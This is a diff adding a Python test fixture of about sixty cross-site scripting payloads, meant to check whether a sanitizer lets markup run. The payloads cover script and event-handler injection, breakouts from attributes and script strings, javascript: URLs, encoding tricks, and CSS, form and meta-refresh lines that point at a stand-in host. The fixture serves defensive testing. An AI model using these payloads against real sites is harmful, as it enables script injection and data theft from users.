@@ -1,0 +1,77 @@
+"""What would somebody type who wants it to run? Each sets window.PWNED where it does, or leaves an element or
+attribute called `pwned` where it is taken for markup. `{n}` is the payload's number, to tell them apart."""
+
+PAYLOADS = (
+    # markup
+    "<script>PWNED={n}</script>",
+    "<img src=x pwned onerror=PWNED={n}>",
+    "<img src=x pwned onerror=alert({n})>",
+    "<svg pwned onload=PWNED={n}>",
+    "<svg><script pwned>PWNED={n}</script></svg>",
+    "<svg><animate pwned onbegin=PWNED={n} attributeName=x dur=1s>",
+    "<iframe pwned srcdoc='<script>parent.PWNED={n}</script>'></iframe>",
+    "<iframe pwned src=javascript:parent.PWNED={n}>",
+    "<object pwned data='data:text/html,<script>parent.PWNED={n}</script>'></object>",
+    "<details open pwned ontoggle=PWNED={n}>",
+    "<body pwned onload=PWNED={n}>",
+    "<input pwned autofocus onfocus=PWNED={n}>",
+    "<style pwned>@import '//evil.invalid/{n}.css';</style>",
+    "<link pwned rel=stylesheet href=//evil.invalid/{n}.css>",
+    "<meta pwned http-equiv=refresh content='0;url=//evil.invalid/{n}'>",
+    "<base pwned href=//evil.invalid/{n}/>",
+    "<form pwned action=//evil.invalid/{n}><button>Save</button></form>",
+    "<a pwned href=javascript:PWNED={n}>open</a>",
+    "<math><mtext></form><form><mglyph><style></math><img pwned src onerror=PWNED={n}>",
+    "<template pwned><img src=x onerror=PWNED={n}></template>",
+    "<x-pwned>{n}</x-pwned>",
+    # out of where text stands
+    "</title><img src=x pwned onerror=PWNED={n}>",
+    "</script><script>PWNED={n}</script>",
+    "</textarea><img src=x pwned onerror=PWNED={n}>",
+    "</option></select><img src=x pwned onerror=PWNED={n}>",
+    "</template><img src=x pwned onerror=PWNED={n}>",
+    "--><img src=x pwned onerror=PWNED={n}><!--",
+    "]]><img src=x pwned onerror=PWNED={n}>",
+    "</style><img src=x pwned onerror=PWNED={n}>",
+    # out of an attribute
+    '"><img src=x pwned onerror=PWNED={n}>',
+    "'><img src=x pwned onerror=PWNED={n}>",
+    '" pwned onmouseover=PWNED={n} autofocus onfocus=PWNED={n} x="',
+    "' pwned onmouseover=PWNED={n} autofocus onfocus=PWNED={n} x='",
+    "x onerror=PWNED={n} pwned",
+    # addresses
+    "javascript:PWNED={n}",
+    "java\tscript:PWNED={n}",
+    "JaVaScRiPt:PWNED={n}//https://",
+    "data:text/html,<script>opener.PWNED={n}</script>",
+    "vbscript:PWNED={n}",
+    "//evil.invalid/{n}",
+    # out of a script's text
+    "${{PWNED={n}}}",
+    "`;PWNED={n};`",
+    "${{alert`{n}`}}",
+    "';PWNED={n};'",
+    '";PWNED={n};"',
+    "\\';PWNED={n};//",
+    "\\u003cimg src=x pwned onerror=PWNED={n}\\u003e",
+    '"}}]}};PWNED={n};({{"',
+    "\u2028PWNED={n}\u2029",
+    "{{{{PWNED={n}}}}}",
+    "{{% print(PWNED) %}}{n}",
+    # styles
+    "x;background:url(//evil.invalid/{n})",
+    "expression(PWNED={n})",
+    "}}*{{background:url('//evil.invalid/{n}')}}",
+    # other letters
+    "＜img src=x pwned onerror=PWNED={n}＞",
+    "&lt;img src=x pwned onerror=PWNED={n}&gt;",
+    "&#60;img src=x pwned onerror=PWNED={n}&#62;",
+    "%3Cimg src=x pwned onerror=PWNED={n}%3E",
+    "\u202e<img src=x pwned onerror=PWNED={n}>\u202c",
+    "+ADw-img src=x pwned onerror=PWNED={n}+AD4-",
+    # markdown, and what looks like it
+    "[open](javascript:PWNED={n})",
+    "![x](//evil.invalid/{n}.png)",
+    "<javascript:PWNED={n}>",
+)
+CORPUS = tuple(payload.format(n=number) for number, payload in enumerate(PAYLOADS, start=1))
